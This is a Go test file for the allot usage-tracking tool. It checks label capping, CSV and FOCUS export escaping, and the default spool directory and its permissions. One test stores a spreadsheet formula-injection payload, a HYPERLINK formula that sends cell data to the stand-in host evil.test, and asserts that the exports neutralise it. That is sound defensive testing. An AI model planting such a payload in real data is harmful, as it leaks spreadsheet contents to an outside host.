package main

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/allot-dev/allot"
	"github.com/allot-dev/allot/sqlite"
)

// TestPushCapsLabels checks that allot push sends a local log's over-long
// names capped as the server stores them, instead of records the server
// refuses.
func TestPushCapsLabels(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x", 1<<20)
	r := usageRecord(allot.Event{ID: "claude-code:" + long, ServedModel: long, RequestedModel: long, Task: long, Session: long, App: long, Provider: long})
	for field, v := range map[string]string{"id": r.ID, "model": r.Model, "requested_model": r.RequestedModel, "task": r.Task, "session": r.Session, "app": r.App, "provider": r.Provider} {
		if len(v) > allot.MaxLabelBytes {
			t.Errorf("%s of %d bytes sent; the server refuses over %d", field, len(v), allot.MaxLabelBytes)
		}
	}
}

// TestCLICSVNeutralisesFormulas stores a call whose task is a formula (as
// X-Allot-Task can set it) and reads it back with allot report --format
// csv and allot export --format csv and focus: the task cell starts with a
// quote, and the numbers stay numbers.
func TestCLICSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("http://evil.test/?"&A1,"Click")`
	path := filepath.Join(t.TempDir(), "allot.db")
	db, err := sqlite.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 3, 10, 0, 0, 0, time.UTC)
	_, err = db.Append(context.Background(), []allot.Event{{ID: "e1", Time: at, Principal: allot.Principal{Org: "acme", Team: "data", User: "bob"},
		Provider: "openai", RequestedModel: "gpt-4o", ServedModel: "gpt-4o", Route: allot.RouteChat, Task: formula, App: "@app",
		Source: allot.SourceGateway, Status: 200, Tokens: allot.Tokens{Input: 10, Output: 2}, Cost: 1_500_000_000, CostKnown: true}})
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"report", "--by", "task,app", "--format", "csv"},
		{"export", "--format", "csv"},
		{"export", "--format", "focus"},
	} {
		out := mustRun(t, append(args, "--from", "2026-11-01", "--to", "2026-11-30", "--database", path)...)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v\n%s", args, err, out)
		}
		if strings.Contains(out, "\n"+formula) || strings.Contains(out, ","+formula) || strings.Contains(out, `,"=`) {
			t.Errorf("%s writes the formula raw:\n%s", args, out)
		}
		found := false
		for _, r := range recs {
			for _, c := range r {
				found = found || strings.HasPrefix(c, "'=HYPERLINK(")
			}
		}
		if !found || !strings.Contains(out, "1.5") {
			t.Errorf("%s lacks the quoted task or the cost:\n%s", args, out)
		}
	}
}

// TestPostgresSpoolDefault serves a postgres:// database without
// spool_dir: the spool is $XDG_STATE_HOME/allot/spool with mode 0700, and
// no folder named after the URL appears in the working directory.
func TestPostgresSpoolDefault(t *testing.T) {
	database := postgresTestDatabase(t, "allot_spool")
	state := t.TempDir()
	t.Setenv("XDG_STATE_HOME", state)
	cfg := testServerConfig(t, "http://127.0.0.1:1", database, "")
	ctx, stop := context.WithCancel(context.Background())
	srv, err := startServer(ctx, cfg, serverOptions{})
	if err != nil {
		t.Fatal(err)
	}
	stop()
	if err := srv.wait(ctx); err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{filepath.Join(state, "allot"), filepath.Join(state, "allot", "spool")} {
		fi, err := os.Stat(dir)
		if err != nil {
			t.Fatalf("spool: %v", err)
		}
		if !fi.IsDir() || fi.Mode().Perm() != 0o700 {
			t.Errorf("%s has mode %v, want a directory with 0700", dir, fi.Mode())
		}
	}
	if _, err := os.Stat("postgres:"); err == nil {
		t.Error("a folder named after the database URL was made in the working directory")
	}
}
